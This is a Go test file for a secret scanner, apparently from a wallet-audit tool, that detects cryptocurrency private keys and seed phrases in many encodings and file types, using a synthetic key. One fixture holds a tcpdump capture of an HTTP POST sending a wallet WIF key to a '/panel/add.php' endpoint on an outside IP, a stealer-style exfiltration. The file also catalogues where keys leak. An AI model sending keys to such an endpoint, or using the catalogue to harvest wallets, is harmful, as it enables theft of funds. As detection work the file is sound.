package audit

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/big"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/btcsuite/btcd/btcec/v2"
	"github.com/btcsuite/btcd/btcutil"
	"github.com/btcsuite/btcd/chaincfg"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/walletaudit/walletaudit/mnemonic"
)

// TestBase64Key32InScan: a secp256k1 key of 32 bytes in base64 is found
// where the text says whose it is (a JWK's "d" on secp256k1, a value
// named for a wallet's private key) and nowhere else (WireGuard, a JWK
// on P-256).
func TestBase64Key32InScan(t *testing.T) {
	key := testKey32()
	url := base64.RawURLEncoding.EncodeToString(key)
	std := base64.StdEncoding.EncodeToString(key)
	for _, tc := range []struct {
		name, file, text, encoding string
	}{
		{"jwk", "signer.jwk", `{"kty":"EC","crv":"secp256k1","d":"` + url + `","use":"sig"}` + "\n", "jwk-d"},
		{"kubernetes secret", "secret.yaml", "kind: Secret\ndata:\n  signer-private-key: " + std + "\n", "base64-bytes"},
		{"wireguard", "wg0.conf", "[Interface]\nPrivateKey = " + std + "\nListenPort = 51820\n", ""},
		{"jwk on P-256", "p256.jwk", `{"kty":"EC","crv":"P-256","d":"` + url + `"}` + "\n", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs := scanFile(t, tc.file, tc.text)
			if tc.encoding == "" {
				assert.Empty(t, fs)
				return
			}
			require.Len(t, fs, 1)
			assert.Equal(t, "hex-private-key", fs[0].Rule)
			assert.Equal(t, tc.encoding, fs[0].Encoding)
		})
	}
}

// TestDecimalKeyInScan: a secp256k1 key written as a decimal integer is
// found under a key's label over an interpreter's prompt and as a Java
// BigInteger beside its address; a big decimal without a key's name is
// not.
func TestDecimalKeyInScan(t *testing.T) {
	key := testKey32()
	dec := new(big.Int).SetBytes(key).String()
	for _, tc := range []struct {
		name, file, text string
		found            bool
	}{
		{"repl", "notes.txt", "My ETH private key as a number:\n>>> int(key, 16)\n" + dec + "\n", true},
		{"java", "Keys.java", "class Keys {\n    static final BigInteger privateKey = new BigInteger(\"" + dec + "\");\n}\n", true},
		{"JavaScript's BigInt", "signer.js", "const privateKey = BigInt(\"" + dec + "\");\n", true},
		{"Python's int", "keys.py", "signer_key = int(\"" + dec + "\")\n", true},
		{"C#'s BigInteger.Parse", "Keys.cs", "var signerKey = BigInteger.Parse(\"" + dec + "\");\n", true},
		{"a parse under no key's name", "math.py", "n = int(\"" + dec + "\")\n", false},
		{"no name", "math.txt", "2^255 + something:\n" + dec + "\n", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs := scanFile(t, tc.file, tc.text)
			if !tc.found {
				assert.Empty(t, fs)
				return
			}
			require.Len(t, fs, 1)
			assert.Equal(t, "hex-private-key", fs[0].Rule)
			assert.Equal(t, "decimal", fs[0].Encoding)
		})
	}
}

// TestGoPrintedECDSAKey: Go's %+v and %v of an *ecdsa.PrivateKey in a
// log give its D as a decimal integer after the public key's curve and
// coordinates: D is found, as one finding, and the coordinates are not.
func TestGoPrintedECDSAKey(t *testing.T) {
	key := testKey32()
	priv, pub := btcec.PrivKeyFromBytes(key)
	d := new(big.Int).SetBytes(priv.Serialize()).String()
	x, y := pub.X().String(), pub.Y().String()
	for name, line := range map[string]string{
		"%+v": "&{PublicKey:{Curve:0xc0000b2000 X:+" + x + " Y:+" + y + "} D:+" + d + "}",
		"%v":  "&{{0xc0000b2000 +" + x + " +" + y + "} +" + d + "}",
	} {
		// Under no key word, and under one (which does not make the
		// coordinates keys).
		for _, label := range []string{"generated: ", "signer private key: "} {
			t.Run(name+" "+label, func(t *testing.T) {
				text := "2024/05/01 09:58:16 keygen: start\n2024/05/01 09:58:24 " + label + line + "\n"
				fs := scanFile(t, "keygen.log", text)
				require.Len(t, fs, 1)
				assert.Equal(t, "decimal", fs[0].Encoding)
				assert.Equal(t, int64(strings.Index(text, d)), fs[0].Location.Offset)
			})
		}
	}
}

// testKey32 returns the 32 bytes 0x80, 0x83, …, 0xdd: a valid secp256k1
// key that is no one's.
func testKey32() []byte {
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(0x80 + i*3)
	}
	return key
}

// TestHexKeyAfterEscapedBreak: in a chat export's JSON a message's lines
// are escaped, so a key on its own line stands right after "\n". It is
// found (on the message's line), and a hash printed the same way by a
// command that names a hash is not.
func TestHexKeyAfterEscapedBreak(t *testing.T) {
	key := hex.EncodeToString(testKey32())
	hash := strings.Repeat("5c", 32)
	for _, tc := range []struct {
		name, text string
		found      bool
	}{
		{"key", `{"text": "new deployer wallet, keep it safe:\nprivate key:\n0x` + key + `\nfund it from the faucet"}`, true},
		{"key without 0x, after a tab", `{"text": "deployer signing key:\t` + key + `"}`, true},
		{"hash", `{"text": "$ cast keccak \"Transfer(address,address,uint256)\"\n0x` + hash + `\n$ cast sig"}`, false},
		{"escaped backslash", `{"text": "private key:\\n0x` + key + `"}`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs := scanFile(t, "export/general/2024-03-15.json", "[\n  {\"user\": \"U1\",\n   \"msg\": "+tc.text+"}\n]\n")
			if !tc.found {
				assert.Empty(t, fs)
				return
			}
			require.Len(t, fs, 1)
			assert.Equal(t, "hex-private-key", fs[0].Rule)
			assert.Equal(t, 3, fs[0].Location.Line)
		})
	}
}

// TestRot13PhraseInScan: the engine's prefilter finds the word that
// names ROT13 and the decoders read the lines after it turned back.
func TestRot13PhraseInScan(t *testing.T) {
	// BIP-39's first test vector, turned 13 places; a published phrase
	// is reported all the same (as public).
	fs := scanFile(t, "notes.txt", "seed (rot13):\n"+strings.Repeat("nonaqba ", 11)+"nobhg\n")
	require.Len(t, fs, 1)
	assert.Equal(t, "rot13", fs[0].Encoding)
	assert.Equal(t, 2, fs[0].Location.Line)
	assert.True(t, fs[0].Public)
}

// scanFile returns the findings of a scan, trials off, of one file of
// mode 0600 named name holding text.
func scanFile(t *testing.T, name, text string) []Finding {
	t.Helper()
	fsys := fstest.MapFS{name: {Data: []byte(text), Mode: 0o600}}
	fs, _, err := New(Options{Trials: TrialsOff}).Collect(context.Background(), FS(fsys, ".", ""))
	require.NoError(t, err)
	return fs
}

// TestWIFInTcpdumpHex: a form posted in a packet that tcpdump -X printed
// holds its WIF over three of the dump's lines, mixed with the bytes as
// text: it is found through the dump's bytes, on the line where the
// form's body starts.
func TestWIFInTcpdumpHex(t *testing.T) {
	priv, _ := btcec.PrivKeyFromBytes(testKey32())
	w, err := btcutil.NewWIF(priv, &chaincfg.MainNetParams, true)
	require.NoError(t, err)
	payload := []byte("E\x00\x01\x13\x1a+@\x00@\x06\xa6#\xac\x10\x04\x17POST /panel/add.php HTTP/1.1\r\nHost: 77.91.124.20\r\n" +
		"Content-Type: application/x-www-form-urlencoded\r\n\r\ncoin=btc&key=" + w.String() + "&addr=bc1q")
	var sb strings.Builder
	sb.WriteString("23:10:44.019201 IP 172.16.4.23.49733 > 77.91.124.20.http: Flags [P.], length 235\n")
	for off := 0; off < len(payload); off += 16 {
		row := payload[off:min(len(payload), off+16)]
		h := hex.EncodeToString(row)
		var groups []string
		for i := 0; i < len(h); i += 4 {
			groups = append(groups, h[i:min(len(h), i+4)])
		}
		shown := bytes.Map(func(r rune) rune {
			if r < 0x20 || r > 0x7e {
				return '.'
			}
			return r
		}, row)
		fmt.Fprintf(&sb, "\t0x%04x:  %-40s %s\n", off, strings.Join(groups, " "), shown)
	}
	fs := scanFile(t, "capture.txt", sb.String())
	require.Len(t, fs, 1)
	assert.Equal(t, "wif", fs[0].Rule)
	assert.Equal(t, "dump", fs[0].Encoding)
	body := bytes.Index(payload, []byte("coin="))
	assert.Equal(t, 2+body/16, fs[0].Location.Line, "the line of the body's first byte")
}

// TestBase64HexNamedBySibling: the hex of a key stored in base64 under a
// "value" is named by a name field of the object around it, as Consul's
// KV export writes it ({"key": "wallet/hot/private_key", "flags": 0,
// "value": "<base64>"}); a name field that names no key leaves it
// unnamed.
func TestBase64HexNamedBySibling(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte(hex.EncodeToString(testKey32())))
	export := func(key string) string {
		return "[\n\t{\n\t\t\"key\": \"" + key + "\",\n\t\t\"flags\": 0,\n\t\t\"value\": \"" + b64 + "\"\n\t}\n]\n"
	}
	fs := scanFile(t, "kv-export.json", export("wallet/hot/private_key"))
	if assert.Len(t, fs, 1) {
		assert.Equal(t, "hex-private-key", fs[0].Rule)
		assert.Equal(t, 5, fs[0].Location.Line)
	}
	assert.Empty(t, scanFile(t, "kv-export.json", export("builds/cache/digest")))
}

// TestWholeFileGzipBase64: a file that is nothing but gzip in base64 (a
// blob saved as it was pasted; corpus 207) is read inflated, as the same
// blob after a label is.
func TestWholeFileGzipBase64(t *testing.T) {
	ent := sha256.Sum256([]byte("a phrase gzipped and in base64"))
	p, err := mnemonic.FromEntropy(ent[:16], mnemonic.English)
	require.NoError(t, err)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	_, err = zw.Write([]byte("wallet backup\n" + p.Reveal() + "\n"))
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	blob := base64.StdEncoding.EncodeToString(buf.Bytes())
	for _, text := range []string{blob + "\n", blob, "blob: " + blob + "\n"} {
		fs := scanFile(t, "backup.b64", text)
		require.Len(t, fs, 1, "%.12q", text)
		assert.Equal(t, KindMnemonic, fs[0].Kind)
	}
}

// TestXXDPlainKeyFile: "xxd -p" of a 32-byte key file prints 60 hex digits
// and then 4 (corpus 207); under the command naming a key file they are the
// key, under one naming another file they are not reported.
func TestXXDPlainKeyFile(t *testing.T) {
	h := hex.EncodeToString(testKey32())
	for _, tc := range []struct {
		file string
		want bool
	}{
		{"wallet.key", true},
		{"deployer_private_key.bin", true},
		{"firmware.bin", false},
	} {
		text := "$ xxd -p " + tc.file + "\n" + h[:60] + "\n" + h[60:] + "\n$ exit\n"
		fs := scanFile(t, "terminal.log", text)
		assert.Equal(t, tc.want, len(fs) == 1, tc.file)
	}
}
